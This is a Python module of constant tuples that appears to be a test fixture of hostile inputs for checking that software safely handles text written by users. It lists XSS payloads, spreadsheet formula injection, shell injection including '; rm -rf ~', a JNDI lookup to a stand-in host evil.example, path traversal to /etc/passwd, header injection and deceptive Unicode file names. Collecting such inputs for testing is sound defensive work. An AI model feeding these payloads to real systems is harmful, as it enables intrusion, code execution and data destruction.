"""Texts that are out to do harm wherever a reader can write: one list for pages and for files."""

from typing import Final

MARKUP: Final = (
    "<script>window.evil=1</script>",
    "<img src=/evil.png onerror=window.evil=1>",
    "<svg onload=window.evil=1><a href='//evil.example'>x</a></svg>",
    "</textarea></title></style><iframe srcdoc='<script>parent.evil=1</script>'>",
    "&lt;img src=x onerror=window.evil=1&gt;",
    "\"'><b onmouseover=window.evil=1>b</b>",
)
ADDRESSES: Final = (
    "javascript:window.evil=1",
    "data:text/html,<script>parent.evil=1</script>",
    "https://evil.example/a",
    "www.evil.example",
    "evil@evil.example",
    "//evil.example/a.png",
)
MARKDOWN: Final = (
    "![x](https://evil.example/a.png)",
    "[x](javascript:window.evil=1)",
    ":red[x] :material/home: :smile:",
    "$\\href{javascript:window.evil=1}{x}$",
    "`x` **b** __c__ ~~d~~ | e",
    "# x",
)
FORMULAS: Final = (
    "=cmd|'/c calc'!A1",
    "+1+1",
    "-1",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\uff1d1+1",
    '=HYPERLINK("https://evil.example")',
)
SHELL: Final = (
    "; rm -rf ~",
    "$(touch evil)",
    "`touch evil`",
    '"); import os; os.abort() #',
    "{__class__} {0} %s %(x)s",
    "${jndi:ldap://evil.example/a}",
    "../../etc/passwd",
    "..\\..\\evil",
    "%00%0d%0aSet-Cookie: evil=1",
)
LETTERS: Final = (
    "a\0b\x0b\x1b[31m",
    "\u202egnp.exe\u2066\u200b\ufeff",
    "\U000e0041\ufffe",
    "x" * 5_000,
)
EVERY: Final = (*MARKUP, *ADDRESSES, *MARKDOWN, *FORMULAS, *SHELL, *LETTERS)
# No browser and no file can hold these, so only what a program is handed is tried with them.
BROKEN: Final = ("\ud800", "a\udfffb")
